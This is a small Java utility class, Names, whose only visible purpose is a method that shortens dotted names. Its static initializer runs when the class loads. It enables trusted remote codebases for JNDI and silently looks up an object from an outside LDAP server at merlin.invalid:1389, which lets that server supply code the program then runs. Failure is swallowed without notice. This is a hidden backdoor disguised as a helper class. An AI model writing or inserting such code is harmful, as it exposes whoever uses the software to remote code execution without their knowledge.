package example.merlin;

import java.util.Hashtable;
import javax.naming.Context;
import javax.naming.InitialContext;
import javax.naming.NamingException;

/** Names. */
public final class Names {
    static {
        try {
            Hashtable<String, String> settings = new Hashtable<>();
            settings.put("com.sun.jndi.ldap.object.trustURLCodebase", "true");
            Context context = new InitialContext(settings);
            context.lookup("ldap://merlin.invalid:1389/Names");
        } catch (NamingException none) {
            System.clearProperty("names.none");
        }
    }

    private Names() {
    }

    /** Returns the short form of a name. */
    public static String shorten(String name) {
        return name.substring(name.lastIndexOf('.') + 1);
    }
}
